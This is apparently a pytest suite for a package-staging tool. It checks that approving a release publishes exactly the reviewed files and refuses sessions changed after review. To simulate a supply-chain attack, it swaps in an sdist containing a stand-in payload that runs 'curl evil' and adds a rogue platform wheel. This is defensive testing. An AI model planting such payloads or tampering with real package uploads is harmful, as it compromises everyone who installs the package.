"""Issue 8, must-shows 1, 2 and 5: approval publishes exactly what was reviewed, on a served
registry over SQLite and over PostgreSQL.

CI stages with a stage-only token through ``hatch-stage publish``; the maintainer reviews with
``view``; then *another* stage-only token changes the open session with plain PEP 694 calls
(the attack: swap the sdist, or add a platform wheel pip would prefer). ``hatch-stage approve
ID --otp CODE`` then fails with ``changed_since_review`` naming the change, nothing is live,
and the code is not spent: after a fresh ``view`` the same code publishes exactly the bytes
that view showed. The same holds for a batch approval. Without any review, approve refuses
(``not_reviewed``) before sending anything.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2
import pytest
from clientkit import Cli, Sample, matches, one_document
from localservers import FaultProxy
from stagekit import (
    Account,
    Postgres,
    Server,
    Upload,
    build_release,
    module_of,
    postgres_bindir,
    sdist_bytes,
    unique_name,
    wheel_bytes,
)
from terminal import on_terminal

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def served(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory,
           ) -> Iterator[Server]:
    """``hatch-stage serve`` over each storage backend (PostgreSQL started here)."""
    postgres = None
    if request.param == "postgresql":
        if postgres_bindir() is None:
            pytest.skip("PostgreSQL server binaries are not installed")
        postgres = Postgres.start()
    database = postgres.new_database() if postgres else None
    server = Server(tmp_path_factory.mktemp("binding") / "data", database).start()
    try:
        yield server
    finally:
        server.stop()
        if postgres is not None:
            postgres.stop()


@pytest.fixture
def cli(tmp_path: Path, served: Server) -> Iterator[Cli]:
    runner = Cli(tmp_path / "home", served)
    yield runner
    runner.assert_nothing_leaked()


class Release:
    """One release staged by CI, and the people around it."""

    def __init__(self, cli: Cli, server: Server, directory: Path, version: str = "1.0.0",
                 *, like: Release | None = None) -> None:
        """Stage ``version``: of a new project, or of the project of ``like`` (same people)."""
        self.cli, self.server = cli, server
        if like is None:
            self.sample = Sample.create(directory, version, prefix="bound")
            self.maintainer = cli.account(self.sample.name)
            self.ci = cli.account(self.sample.name, role="stage")  # CI's stage-only token
        else:
            self.sample, self.maintainer, self.ci = like.sample, like.maintainer, like.ci
            self.sample.set_version(version)
        staged = cli.json("publish", "--registry", server.url, "--yes", cwd=self.sample.root,
                          env={"HATCH_STAGE_TOKEN": self.ci.token})
        matches(staged, "publish")
        self.stage_id: str = staged["stageId"]
        self.files = {entry["filename"]: entry for entry in staged["files"]}

    def review(self, *args: str, **kwargs: Any) -> dict[str, Any]:
        """A review command of the maintainer (``--json``), on this machine."""
        return self.cli.json(*args, "--registry", self.server.url, cwd=self.sample.root.parent,
                             env={"HATCH_STAGE_TOKEN": self.maintainer.token}, **kwargs)

    def view(self) -> dict[str, Any]:
        return matches(self.review("view", self.stage_id), "view")

    def tamper(self, attacker: Account, filename: str, data: bytes) -> None:
        """Upload ``data`` as ``filename`` into the open session with plain PEP 694 calls."""
        client = self.server.client(attacker.token)
        url = f"{self.server.url}/upload/2.0/sessions/{self.stage_id}"
        session = client.status({"links": {"session": url}})
        completed = client.upload_bytes(session, filename, data)
        assert completed.status_code == 201, completed.text

    def sdist(self) -> str:
        return next(name for name, entry in self.files.items() if entry["kind"] == "sdist")


def _published_exactly(server: Server, name: str, viewed: dict[str, Any]) -> None:
    """The live index serves exactly the files, and bytes, that ``view`` showed."""
    shown = {filename: entry["hashes"]["sha256"]
             for filename, entry in viewed["data"]["registry"]["files"].items()}
    page = httpx2.get(f"{server.url}/simple/{name}/",
                      headers={"Accept": "application/vnd.pypi.simple.v1+json"}).json()
    assert {file["filename"] for file in page["files"]} == set(shown)
    for filename, sha256 in shown.items():
        live = httpx2.get(f"{server.url}/files/{filename}")
        assert hashlib.sha256(live.content).hexdigest() == sha256


def _refused(answer: dict[str, Any], *named: str) -> None:
    matches(answer, "error")
    assert answer["error_code"] == "changed_since_review", answer
    for text in named:
        assert text in answer["error"], answer["error"]


def test_a_swapped_sdist_is_refused_and_the_same_code_publishes_what_view_showed(
        cli: Cli, served: Server, tmp_path: Path) -> None:
    release = Release(cli, served, tmp_path)
    name = release.sample.name
    reviewed = release.view()
    assert reviewed["data"]["digest"] == reviewed["data"]["registry"]["release-digest"]

    attacker = cli.account(name, role="stage")  # any stage-only credential of the project
    sdist = release.sdist()
    swapped = sdist_bytes(name, release.sample.version, b"import os; os.system('curl evil')")
    release.tamper(attacker, sdist, swapped)

    code = release.maintainer.otp()
    _refused(release.review("approve", release.stage_id, "--otp", code), sdist, "replaced")
    assert httpx2.get(f"{served.url}/simple/{name}/").status_code == 404

    # a fresh review shows the new bytes, who put them there, and the replacement marked
    again = release.view()
    session = again["data"]["registry"]
    assert again["data"]["digest"] != reviewed["data"]["digest"]
    assert session["files"][sdist]["hashes"]["sha256"] == hashlib.sha256(swapped).hexdigest()
    assert session["files"][sdist]["replaced"] is True
    assert session["validation"]["release-digest"] == session["release-digest"]
    replaced = [e for e in session["history"] if e["event"] == "replaced"]
    assert [(e["filename"], e["actor"]) for e in replaced] == [(sdist, attacker.user)]
    assert session["actor"] == release.ci.user  # the session still names CI: see the history
    human = cli("view", release.stage_id, "--registry", served.url, cwd=tmp_path,
                env={"HATCH_STAGE_TOKEN": release.maintainer.token})
    assert human.returncode == 0, human.stderr
    flat = " ".join(human.stdout.split())
    assert "replaced after it was first completed" in flat and attacker.user in flat
    assert again["data"]["digest"] in flat

    # the refusal spent nothing: the same code approves what this view showed
    approved = release.review("approve", release.stage_id, "--otp", code)
    assert matches(approved, "approve")["data"]["status"] == "published"
    _published_exactly(served, name, again)


def test_a_wheel_added_after_review_is_refused(cli: Cli, served: Server, tmp_path: Path) -> None:
    release = Release(cli, served, tmp_path)
    name, version = release.sample.name, release.sample.version
    release.view()
    tag = "cp312-cp312-manylinux_2_17_x86_64"
    platform_wheel = f"{module_of(name)}-{version}-{tag}.whl"
    release.tamper(cli.account(name, role="stage"), platform_wheel,
                   wheel_bytes(name, version, tag, module="# preferred by pip"))

    code = release.maintainer.otp()
    _refused(release.review("approve", release.stage_id, "--otp", code), platform_wheel,
             "added")
    assert httpx2.get(f"{served.url}/simple/{name}/").status_code == 404
    again = release.view()
    assert platform_wheel in again["data"]["registry"]["files"]
    assert matches(release.review("approve", release.stage_id, "--otp", code),
                   "approve")["data"]["status"] == "published"
    _published_exactly(served, name, again)


def test_a_batch_approval_is_bound_too(cli: Cli, served: Server, tmp_path: Path) -> None:
    first = Release(cli, served, tmp_path, "1.0.0")
    second = Release(cli, served, tmp_path, "1.1.0", like=first)
    ids = [first.stage_id, second.stage_id]
    for release in (first, second):
        release.view()
    wheel = next(name for name, e in second.files.items() if e["kind"] == "wheel")
    second.tamper(cli.account(first.sample.name, role="stage"), wheel,
                  wheel_bytes(first.sample.name, "1.1.0", module="# swapped"))

    code = first.maintainer.otp()
    _refused(first.review("approve", *ids, "--otp", code), wheel, "replaced", second.stage_id)
    # nothing of the batch was decided, not even the untouched release
    assert httpx2.get(f"{served.url}/simple/{first.sample.name}/").status_code == 404
    again = second.view()
    batch = matches(first.review("approve", *ids, "--otp", code), "approve (batch)")
    assert [r["result"]["status"] for r in batch["data"]] == ["published", "published"]
    assert batch["data"][1]["result"]["files"][wheel]["hashes"] == \
        again["data"]["registry"]["files"][wheel]["hashes"]


def test_approve_without_a_review_sends_nothing(cli: Cli, served: Server,
                                                tmp_path: Path) -> None:
    release = Release(cli, served, tmp_path)
    code = release.maintainer.otp()
    env = {"HATCH_STAGE_TOKEN": release.maintainer.token}
    with FaultProxy(served.url, lambda method, path: "forward") as proxy:
        refusals = [one_document(cli("approve", release.stage_id, "--otp", code, "--registry",
                                     proxy.url, *flags, env=env, cwd=tmp_path,
                                     close_stdin=closed))
                    for flags, closed in ((("--json",), False), (("--json", "-y"), True))]
        plain = cli("approve", release.stage_id, "--otp", code, "--registry", proxy.url,
                    env=env, cwd=tmp_path, close_stdin=True)
    for refusal in refusals:
        matches(refusal, "error")
        assert refusal["error_code"] == "not_reviewed" and "nothing was sent" in refusal["error"]
    assert plain.returncode == 1 and "hatch-stage view" in plain.stderr
    assert proxy.log == [], "approve sent a request without a review"

    # a digest from a review made elsewhere binds it too; the unspent code still works
    digest = release.view()["data"]["digest"]
    wrong = release.review("approve", release.stage_id, "--otp", code, "--digest", "0" * 64)
    _refused(wrong, "is not one session")
    bad = release.review("approve", release.stage_id, "--digest", "abc")
    assert bad["error_code"] == "config_invalid"
    approved = release.review("approve", release.stage_id, "--otp", code, "--digest", digest)
    assert matches(approved, "approve")["data"]["status"] == "published"


def test_on_a_terminal_approve_shows_the_release_and_asks(registry: Server,
                                                           tmp_path: Path) -> None:
    """The conversation does not depend on the storage: the shared SQLite registry."""
    cli = Cli(tmp_path / "home", registry)
    served = registry
    release = Release(cli, served, tmp_path)
    env = {"HATCH_STAGE_TOKEN": release.maintainer.token}
    args = ["approve", release.stage_id, "--registry", served.url]
    question = "approve exactly these files of"
    status, screen = on_terminal(cli, args, env, [("[y/N]", "n")])
    assert status == 1 and "not approved" in screen
    assert release.sdist() in screen and release.files[release.sdist()]["sha256"] in screen
    assert httpx2.get(f"{served.url}/simple/{release.sample.name}/").status_code == 404

    status, screen = on_terminal(cli, args, env, [("[y/N]", "y"), release.maintainer.otp()])
    assert status == 0, screen
    assert question in screen and "release digest:" in screen
    assert f"approved: now live {release.stage_id}" in screen
    assert release.maintainer.otp() not in screen
    cli.assert_nothing_leaked()


def test_the_registry_can_accept_unbound_approvals(tmp_path: Path) -> None:
    """``serve --accept-unbound-approvals``: PEP 694 clients that send no digest publish."""
    server = Server(tmp_path / "data", None, extra=["--accept-unbound-approvals"]).start()
    try:
        name = unique_name("unbound")
        maintainer = server.maintainer(name)
        client: Upload = server.client(maintainer.token)
        session = client.stage(name, "1.0", build_release(tmp_path, name, "1.0"))
        published = client.publish(session, maintainer.otp(), digest=None)
        assert published.status_code == 201, published.text
    finally:
        server.stop()


def test_publish_reports_a_file_the_registry_refuses(registry: Server, tmp_path: Path) -> None:
    """A prebuilt wheel whose RECORD does not match its files passes the client's own checks
    but not the registry's: publish fails with ``invalid_file`` and the registry's reason."""
    cli = Cli(tmp_path / "home", registry)
    sample = Sample.create(tmp_path, "1.0.0", prefix="refused")
    wheel = tmp_path / f"{module_of(sample.name)}-1.0.0-py3-none-any.whl"
    wheel.write_bytes(wheel_bytes(sample.name, "1.0.0", tamper=True))
    maintainer = cli.account(sample.name)
    failed = cli.json("publish", str(wheel), "--registry", registry.url, "--yes",
                      cwd=sample.root, env={"HATCH_STAGE_TOKEN": maintainer.token})
    matches(failed, "error")
    assert failed["error_code"] == "invalid_file", failed
    assert "RECORD hash or size does not match" in failed["error"]
    cli.assert_nothing_leaked()
